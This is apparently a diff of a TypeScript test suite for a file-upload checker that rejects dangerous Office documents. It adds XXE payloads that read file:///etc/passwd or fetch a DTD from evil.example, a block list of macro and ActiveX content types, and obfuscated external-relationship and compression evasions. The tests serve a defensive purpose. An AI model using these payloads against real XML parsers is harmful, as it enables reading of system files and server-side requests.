@@ -81,7 +81,8 @@ const padding = `<!--${"x".repeat(200_000)}-->`;
 const declaration = '<?xml version="1.0" encoding="UTF-8"?>';
 
 describe("document types", () => {
-  const attack = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>';
+  const attack = '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd"><x/>';
+  const entity = '<!ENTITY e SYSTEM "file:///etc/passwd">';
   const parts = [
     "xl/a.xml",
     "xl/_rels/a.xml.rels",
@@ -100,7 +101,8 @@ describe("document types", () => {
           `${declaration}${attack}`,
           `${declaration}${padding}${attack}`,
           `${declaration}${padding}<x/>${padding}${attack}`,
-          `${declaration}<!entity x "y">`,
+          `${declaration}${padding}${entity}`,
+          `${declaration}${entity.toLowerCase()}`,
         ];
     for (const content of refused)
       expect(await check("a.xlsx", xlsx([{ name, content }]))).toBe("FILE_UNREADABLE");
@@ -111,7 +113,7 @@ describe("document types", () => {
     for (let length = 16_384 - 12; length <= 16_384; length++) {
       const content = `<!--${"x".repeat(length - 7)}-->${attack}`;
       expect(await check("a.docx", docx([{ name: "word/a.xml", content }]))).toBe("FILE_UNREADABLE");
-      const control = content.replace("<!DOCTYPE", "<?DOCTYPE").replace("<!ENTITY", "<?ENTITY");
+      const control = content.replace("<!DOCTYPE", "<?DOCTYPE");
       expect(await check("a.docx", docx([{ name: "word/a.xml", content: control }]))).toBeUndefined();
     }
   });
@@ -148,6 +150,7 @@ describe("what runs inside of an office file", () => {
     "application/vnd.ms-word.vbaData+xml",
     "application/vnd.ms-excel.macrosheet+xml",
     "application/vnd.ms-office.activeX+xml",
+    "application/vnd.ms-word.attachedToolbars",
     "application/vnd.openxmlformats-officedocument.oleObject",
     "application/vnd.ms-excel.sheet.macro&#69;nabled.main+xml",
     "application/vnd.ms-office.vba&#x50;roject",
@@ -213,6 +216,7 @@ describe("what runs inside of an office file", () => {
       attack.replace("<Relationship ", '<Relationship\n\t Note="a>b" '),
       attack.replaceAll("<Relationship", "<r:Relationship"),
       attack.replace('"External"', '"&#69;xternal"'),
+      attack.replace('"External"', '"external"'),
       Buffer.from(`\ufeff${attack.replace("UTF-8", "UTF-16")}`, "utf16le"),
     ];
     for (const content of forms) expect(await made(content)).toBe("FILE_TYPE_NOT_ALLOWED");
@@ -241,6 +245,41 @@ describe("what runs inside of an office file", () => {
       await check("a.docx", docx([{ name, content: `<Relationships>${many.join("")}` }])),
     ).toBeUndefined();
     expect(await check("a.docx", docx([{ name, content: after }]))).toBe("FILE_TYPE_NOT_ALLOWED");
+  });
+
+  test("a relationship is found where two pieces of a part meet", async () => {
+    const name = "word/_rels/document.xml.rels";
+    const made = (content: string) => check("a.docx", docx([{ name, content }]));
+    const [attack, honest] = [relationship("image", outside), relationship("hyperlink", outside)];
+    for (let length = 16_384 - attack.length + 100; length < 16_384; length += 7) {
+      const padded = (text: string) =>
+        text.replace("<Relationships>", `<Relationships>${" ".repeat(length - 100)}`);
+      expect(await made(padded(attack))).toBe("FILE_TYPE_NOT_ALLOWED");
+      expect(await made(padded(honest))).toBeUndefined();
+    }
+  });
+
+  test("relationships that are for the most part something else can't be read", async () => {
+    const name = "word/_rels/document.xml.rels";
+    const made = (spaces: number) =>
+      check("a.docx", docx([{ name, content: `<Relationships>${" ".repeat(spaces)}</Relationships>` }]));
+    expect(await made(60_000)).toBeUndefined();
+    expect(await made(70_000)).toBe("FILE_UNREADABLE");
+  });
+
+  test("a part's first bytes may come one by one", async () => {
+    const empty = Buffer.from("000000ffff", "hex");
+    const deflated = (start: string) => {
+      const filler = Buffer.concat(Array.from({ length: 60_000 }, () => empty));
+      const block = Buffer.concat([Buffer.from("000400fbff", "hex"), Buffer.from(start, "hex")]);
+      return Buffer.concat([block, filler, Buffer.from("010400fbff", "hex"), Buffer.from("a1b11ae1", "hex")]);
+    };
+    const made = (start: string) => {
+      const content = Buffer.from(`${start}a1b11ae1`, "hex");
+      return check("a.xlsx", xlsx([{ name: "xl/a.bin", content, packed: deflated(start) }]));
+    };
+    expect(await made("d0cf11e0")).toBe("FILE_TYPE_NOT_ALLOWED");
+    expect(await made("d0cf11e1")).toBeUndefined();
   });
 
   test("a link to a program is refused", async () => {
